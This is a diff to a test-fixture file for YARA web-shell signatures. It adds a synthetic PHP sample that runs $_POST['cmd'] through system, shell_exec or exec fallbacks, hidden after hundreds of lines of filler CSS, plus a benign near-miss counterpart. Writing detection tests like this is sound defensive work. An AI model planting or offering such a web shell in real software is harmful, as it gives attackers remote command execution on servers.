@@ -1,4 +1,4 @@
-"""Must-hit / near-miss samples for the issue-4f rules in `signatures/shells.yar`.
+"""Must-hit / near-miss samples for the issue-4f rules in `signatures/shells.yar` and `families.yar`.
 
 Small synthetic PHP written for the tests; no corpus excerpts. The near-miss is the legitimate
 look-alike: a template compiler that walks a directory of .php templates, writes compiled
@@ -21,7 +21,31 @@ INFECTOR_NEAR = (
     b"  touch($out, filemtime($tpl));\n}\n"
 )
 
+CSS = "".join(f".c{i} {{ margin: {i % 7}px; }}\n" for i in range(700))
+FALLBACK_BODY = (
+    "function run($c) {\n"
+    "  if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }\n"
+    "  if (function_exists('shell_exec')) return shell_exec($c);\n"
+    "  if (function_exists('exec')) { exec($c, $o); return implode(\"\\n\", $o); }\n}\n"
+)
+FALLBACK_INPUT = (
+    "<?php\n?>\n<style>\n"
+    + CSS
+    + "</style>\n<?php\n"
+    + FALLBACK_BODY
+    + "echo '<pre>' . run($_POST['cmd']) . '</pre>';\n"
+).encode()
+FALLBACK_NEAR = (
+    "<?php\n?>\n<style>\n"
+    + CSS
+    + "</style>\n<?php\n"
+    + FALLBACK_BODY
+    + "$page = (int) ($_GET['page'] ?? 1);\necho '<pre>' . run('uptime') . '</pre>';\n"
+).encode()
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_SHELL_TimestompedInfector", INFECTOR, True),
     ("SPAMGEAR_SHELL_TimestompedInfector", INFECTOR_NEAR, False),
+    ("SPAMGEAR_FAMILY_ExecFallbackOfInput", FALLBACK_INPUT, True),
+    ("SPAMGEAR_FAMILY_ExecFallbackOfInput", FALLBACK_NEAR, False),
 ]
